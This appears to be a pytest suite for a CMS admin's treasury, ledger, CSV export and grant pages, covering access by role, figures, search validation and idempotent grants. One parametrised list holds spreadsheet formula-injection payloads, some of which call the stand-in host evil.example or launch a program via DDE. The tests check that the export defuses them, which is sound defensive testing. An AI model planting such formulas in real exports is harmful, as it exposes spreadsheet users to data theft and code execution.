"""The money pages of the admin: who sees which, and that they say what the books say."""

import csv
import io
import re
from urllib.parse import parse_qs, urlsplit

import pytest
from sqlalchemy import text

from cms.admin.ledger_csv import BYTE_ORDER_MARK, COLUMNS, plain, safe
from cms.ledger.accounts import trial_balance
from cms.people.models import AuditEntry
from cms.services.articles.publish import publish_article
from cms.services.dealings.comment_removal import moderate_comment
from cms.services.dealings.comments import post_comment
from cms.services.money.grant import grant
from tests.support.story import FIGURES, tell
from tests.support.world import TWEI, draft, person

pytestmark = pytest.mark.databases("sqlite")


@pytest.fixture
def told(tribune, clock, once):
    return once("told", lambda: tell(tribune, clock))


def shown(page, label):
    """Return the exact amount beside a label."""
    found = re.search(rf">{label}<.*?<data[^>]*value=\"([^\"]+)\"", page.text, re.DOTALL)
    assert found, label
    return round(float(found[1]) * TWEI)


def issued(tribune):
    with tribune.reading() as session:
        return -trial_balance(session).get("mint", 0)


# --- who sees what -------------------------------------------------------------------------

PAGES = ("/admin/treasury", "/admin/ledger", "/admin/ledger.csv", "/admin/ledger/1")


@pytest.mark.parametrize("path", [*PAGES, "/admin/readers/1/money"])
def test_money_is_for_those_who_may_read_it(site, desk, path):
    for role in ("owner", "admin", "editor"):
        assert desk(role).get(path).status_code == 200
    for role in ("author", "moderator"):
        assert desk(role).get(path).status_code == 403


def test_an_author_opens_the_money_of_their_own_article_only(site, desk, tribune):
    mine = desk("author")
    own = draft(tribune, mine.user_id, title="Mine")
    assert mine.get(f"/admin/articles/{own}/money").status_code == 200
    refused = mine.get(f"/admin/articles/{site.article}/money")
    assert refused.status_code == 403
    assert "your own articles only" in refused.text
    assert desk("moderator").get(f"/admin/articles/{own}/money").status_code == 403


def test_an_author_gets_no_links_into_rooms_that_are_shut(told, desk, tribune):
    mine = desk("author")
    article = draft(tribune, mine.user_id, title="Mine")
    grant(tribune, 20 * TWEI, reason="to begin", nickname="The author")
    publish_article(tribune, mine.user_id, "editor", article)
    page = mine.get(f"/admin/articles/{article}/money").text
    assert "Post Publish Tribute" in page
    assert "/admin/ledger" not in page
    assert "/admin/readers" not in page


@pytest.mark.parametrize("path", ["/admin/articles/99/money", "/admin/readers/99/money"])
def test_what_is_not_there_is_a_page_that_says_so(desk, path):
    assert desk("owner").get(path).status_code == 404
    assert desk("owner", "Olga").get("/admin/ledger/99").status_code == 404


ODD = ("after=x", "after=1", "after=1.2.3", "after=-1.0", "before=x", "before=-1", "row=%00")


@pytest.mark.parametrize("query", [*ODD, "scope=mine", "days=x", "after=" + "9" * 40 + ".1"])
def test_odd_addresses_are_answered_with_a_page(site, desk, query):
    owner = desk("owner")
    pages = ("/", "/treasury", "/ledger", f"/articles/{site.article}/money", "/readers/1/money")
    for path in pages:
        assert owner.get(f"/admin{path}?{query}").status_code in {200, 404}


# --- figures -------------------------------------------------------------------------------


def test_the_articles_page_shows_the_reports_figures(told, desk):
    _author, _readers, article, table = told
    page = desk("editor").get(f"/admin/articles/{article}/money")
    assert {label: shown(page, label) for label in FIGURES} == FIGURES
    assert shown(page, "Profit subtotal") == table.subtotal("profit")
    assert shown(page, "Loss subtotal") == table.subtotal("loss")
    assert shown(page, "Total Twei Earned") == table.total_utwei


def test_a_line_opens_the_entries_behind_it(told, desk):
    _author, _readers, article, _table = told
    page = desk("editor").get(f"/admin/articles/{article}/money?row=spent_for_minuses").text
    entries = page.split('id="entries"')[1]
    assert "Entries behind “Spent for Minuses”" in page
    assert "Reader 1 rated the article" in entries
    assert re.search(r"Reader 1</a>\s*→ the house", entries)
    assert entries.count("<tr>") == 2  # head and one row


def test_home_shows_what_people_earned_and_spent(told, desk, tribune):
    page = desk("editor").get("/admin/?days=90")
    with tribune.reading() as session:
        treasury = trial_balance(session)["treasury"]
    assert shown(page, "Treasury") == treasury
    assert "The article" in page.text.split('id="top-articles"')[1]


def test_an_authors_home_shows_their_articles_and_no_treasury(site, desk, tribune):
    mine = desk("author")
    draft(tribune, mine.user_id, title="A draft of mine")
    page = mine.get("/admin/").text
    assert "A draft of mine" in page
    assert "Treasury" not in page


def test_a_moderators_home_shows_the_latest_comments(site, desk, tribune):
    grant(tribune, 5 * TWEI, reason="x", nickname="Ada")
    words = "A <b>comment</b> of more than forty characters, to be seen."
    post_comment(tribune, site.author, "editor", site.article, words)
    page = desk("moderator").get("/admin/").text
    assert "A &lt;b&gt;comment&lt;/b&gt; of more than forty" in page


def test_an_empty_site_says_what_to_do(desk):
    owner, author = desk("owner"), desk("author")
    assert "No money has moved yet" in owner.get("/admin/").text
    assert "The treasury is empty" in owner.get("/admin/treasury").text
    assert "The ledger is empty" in owner.get("/admin/ledger").text
    assert "You have not written anything yet" in author.get("/admin/").text


def test_the_treasury_shows_a_trial_balance_of_nothing(told, desk):
    page = desk("editor").get("/admin/treasury")
    assert shown(page, "Together") == 0
    assert "Zero, as it must be" in page.text


def test_the_books_are_proved_on_demand(told, desk, tribune):
    editor = desk("editor")
    assert "The books are sound" in editor.post("/admin/treasury/verify").text
    with tribune.writing() as session:
        session.execute(text("UPDATE ledger_balance SET balance_utwei = balance_utwei + 1"))
    page = editor.post("/admin/treasury/verify").text
    assert "The books are not sound" in page
    assert "but its postings come to" in page


def test_proving_needs_the_right_and_the_forms_token(site, desk):
    assert desk("author").post("/admin/treasury/verify").status_code == 403
    assert desk("editor").client.post("/admin/treasury/verify").status_code == 400
    assert desk("admin").get("/admin/treasury/verify").status_code == 404


# --- the ledger ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "said"),
    [
        ("amount=x", "is not an amount of Twei"),
        ("amount=1.0000001", "is not an amount of Twei"),
        ("person=Nobody", "Nobody is called Nobody"),
        ("article=no+such", "No article has this number"),
        ("since=yesterday", "Not a valid date"),
        ("until=0001-01-01", "A year from 2000 on"),
        ("until=9999-12-31", "A year from 2000 on"),
        ("event=%00", "cannot be searched for"),
        ("plugin=%00", "cannot be searched for"),
        ("line=" + "x" * 201, "cannot be longer"),
    ],
)
def test_a_condition_that_makes_no_sense_says_so(site, desk, query, said):
    for path in ("/admin/ledger", "/admin/ledger.csv"):
        page = desk("editor", f"E{len(path)}").get(f"{path}?{query}")
        assert page.status_code == 422
        assert said in page.text


def test_conditions_can_be_joined(told, desk):
    _author, _readers, article, _table = told
    editor = desk("editor")
    query = f"article={article}&person=reader+0&line=earned_for_pluses&plugin=read_to_earn"
    page = editor.get(f"/admin/ledger?{query}&kind=post&amount=0.56&since=2026-03-01").text
    assert page.count('class="when"') == 1
    assert "Nothing matches" in editor.get(f"/admin/ledger?{query}&kind=reverse").text


def test_an_entry_names_its_event_and_its_settings(told, desk):
    _author, readers, article, _table = told
    editor = desk("editor")
    key = f"react:{readers[0]}:article-{article}:1"
    found = re.search(r"/admin/ledger/(\d+)", editor.get(f"/admin/ledger?event={key}").text)
    page = editor.get(found[0]).text
    assert key in page
    assert "settings version" in page
    assert "What else it caused" in page
    assert "&#34;reaction&#34;: &#34;plus&#34;" in page


def rows_of(answer):
    assert answer.text.startswith(BYTE_ORDER_MARK)
    return list(csv.DictReader(io.StringIO(answer.text.removeprefix(BYTE_ORDER_MARK), newline="")))


def test_the_file_holds_what_the_search_finds(told, desk):
    _author, _readers, article, _table = told
    answer = desk("editor").get(f"/admin/ledger.csv?article={article}&line=comment_tributes")
    assert answer.mimetype == "text/csv"
    assert "attachment" in answer.headers["Content-Disposition"]
    assert "\r\n" in answer.text
    (row,) = rows_of(answer)
    assert list(row) == list(COLUMNS)
    assert (row["from"], row["to"], row["amount_twei"]) == ("Reader 0", "The house", "1.000000")


def test_a_long_file_says_what_it_left_out(told, desk, monkeypatch):
    monkeypatch.setattr("cms.services.money.search_ledger.EXPORT_ROWS_MAX", 20)
    monkeypatch.setattr("cms.services.money.search_ledger.EXPORT_CHUNK_ROWS", 10)
    rows = rows_of(desk("editor").get("/admin/ledger.csv"))
    assert len(rows) == 21
    assert rows[-1]["recorded_at"].startswith("Only the newest")
    assert len({(row["entry"], row["from"], row["to"]) for row in rows[:-1]}) > 10


FORMULAS = (
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "  @x",
    "\u00a0=1",
    "\u3000=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    '=cmd|"/C calc"!A0',
    '=IMPORTXML(CONCAT("http://evil.example",A1))',
    '",=1',
    "x\r\n=1,=2",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_becomes_a_formula(text):
    row = io.StringIO(newline="")
    csv.writer(row, lineterminator="\r\n").writerow([safe(text), "1.000000"])
    (cells,) = csv.reader(io.StringIO(row.getvalue(), newline=""))
    assert len(cells) == 2
    assert cells[0].strip(" \u00a0\u3000")[:1] not in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
    assert cells[0].removeprefix("'") == text


@pytest.mark.parametrize("text", ["Ada", "", "a=b", "3 > 2", "it's", "Zoë", "“quoted”"])
def test_a_plain_cell_stays_as_it_is(text):
    assert safe(text) == text


def test_a_name_and_a_reason_reach_the_file_as_text(tribune, desk):
    person(tribune, "=cmd|calc")
    grant(tribune, TWEI, reason='@SUM(A1), "quoted"', nickname="=cmd|calc")
    gift = rows_of(desk("editor").get("/admin/ledger.csv"))[0]
    assert (gift["to"], gift["note"]) == ("'=cmd|calc", '\'@SUM(A1), "quoted"')


@pytest.mark.parametrize(
    ("amount", "written"),
    [(0, "0.000000"), (1, "0.000001"), (-1_500_000, "-1.500000"), (10**15, "1000000000.000000")],
)
def test_numbers_are_plain_decimals(amount, written):
    assert plain(amount) == written


# --- grants --------------------------------------------------------------------------------

FORM = {"amount": "12.5", "payee": "treasury", "reason": "Advertising", "nickname": ""}


@pytest.fixture
def form(desk):
    """An owner at the grant form, and what it holds."""
    owner = desk("owner")
    page = owner.get("/admin/treasury/grant").text
    reference = re.search(r'name="reference"[^>]*value="([^"]+)"', page)[1]
    return owner, {**FORM, "reference": reference}


def test_a_grant_is_given_and_listed_with_its_reason(form, tribune):
    owner, words = form
    done = owner.post("/admin/treasury/grant", words)
    assert (done.status_code, done.location) == (302, "/admin/treasury")
    page = owner.get("/admin/treasury").text
    assert "12.50 Twei granted to the treasury" in page
    assert "Advertising" in page.split('id="grants"')[1]
    assert issued(tribune) == 12_500_000


def test_a_double_click_grants_once(form, tribune):
    owner, words = form
    for _click in range(2):
        assert owner.post("/admin/treasury/grant", words).status_code == 302
    assert issued(tribune) == 12_500_000
    with tribune.reading() as session:
        assert session.query(AuditEntry).filter_by(action="money.grant").count() == 1


def test_two_forms_are_two_grants(form, tribune):
    owner, words = form
    page = owner.get("/admin/treasury/grant").text
    other = re.search(r'name="reference"[^>]*value="([^"]+)"', page)[1]
    owner.post("/admin/treasury/grant", words)
    owner.post("/admin/treasury/grant", {**words, "reference": other})
    assert issued(tribune) == 25_000_000


@pytest.mark.parametrize(
    ("wrong", "said"),
    [
        ({"amount": ""}, "Say how much"),
        ({"amount": "0"}, "more than nothing"),
        ({"amount": "-5"}, "more than nothing"),
        ({"amount": "1e3"}, "is not an amount"),
        ({"amount": "1,5"}, "is not an amount"),
        ({"amount": "0.0000001"}, "is not an amount"),
        ({"amount": "9999999999"}, "at most 1000000000.00 Twei"),
        ({"amount": "9" * 31}, "cannot be longer"),
        ({"reason": ""}, "Say what the grant is for"),
        ({"reason": "   "}, "Say what the grant is for"),
        ({"reason": "x" * 201}, "cannot be longer"),
        ({"reason": "a\x00b"}, "control characters"),
        ({"payee": "person"}, "Say who gets it"),
        ({"payee": "person", "nickname": "Nobody"}, "Nobody is called Nobody"),
        ({"payee": "mint"}, "Choose one"),
        ({"reference": ""}, "This form is damaged"),
        ({"reference": "demo-1"}, "This form is damaged"),
    ],
)
def test_a_wrong_grant_comes_back_with_what_was_typed(form, tribune, wrong, said):
    owner, words = form
    page = owner.post("/admin/treasury/grant", {**words, **wrong})
    assert page.status_code == 422
    assert said in page.text
    assert issued(tribune) == 0
    kept = {**words, **wrong}["reason"]
    assert "\x00" in kept or f'value="{kept}"' in page.text


@pytest.mark.parametrize("role", ["editor", "author", "moderator"])
def test_who_may_not_grant_sees_no_form_and_grants_nothing(desk, tribune, role):
    somebody = desk(role)
    assert somebody.get("/admin/treasury/grant").status_code == 403
    assert somebody.post("/admin/treasury/grant", FORM).status_code == 403
    assert "Grant Twei" not in somebody.get("/admin/treasury").text
    assert issued(tribune) == 0


def test_the_password_is_asked_for_before_the_form_is_shown(desk, clock):
    owner = desk("owner")
    clock.advance(minutes=11)
    asked = owner.get("/admin/treasury/grant")
    assert asked.location == "/admin/confirm?next=/admin/treasury/grant"


def test_what_was_typed_survives_a_confirmation_that_ran_out(form, tribune, clock):
    owner, words = form
    clock.advance(minutes=11)
    asked = owner.post("/admin/treasury/grant", words)
    assert issued(tribune) == 0
    where = parse_qs(urlsplit(asked.location).query)["next"][0]
    done = owner.post(asked.location, {"password": "a long sentence of nobody"})
    assert done.location == where
    page = owner.get(where).text
    assert 'value="12.5"' in page
    assert 'value="Advertising"' in page
    assert words["reference"] in page
    owner.post("/admin/treasury/grant", words)
    assert issued(tribune) == 12_500_000


def test_what_something_caused_leads_to_the_act_that_undoes_it(site, desk):
    reader, editor = site.readers[0], desk("editor")
    comment = post_comment(site.tribune, reader, "editor", site.article, "Words").subject_id
    for where, undo in (
        (f"/admin/articles/{site.article}", "take-down"),
        (f"/admin/comments/{comment}", "remove"),
        (f"/admin/readers/{reader}", "undo"),
    ):
        page = editor.get(f"{where}/caused").text
        assert f"{where}/{undo}" in page
        assert "Who has what of it" in page
    assert "/caused" in editor.get(f"/admin/articles/{site.article}/money").text
    assert f"/comments/{comment}/caused" in editor.get("/admin/comments").text
    moderate_comment(site.tribune, editor.user_id, "editor", comment, "rude")
    assert f"{comment}/remove" not in editor.get(f"/admin/comments/{comment}/caused").text
    assert editor.get(f"/admin/readers/{reader}/caused?after=x").status_code == 404
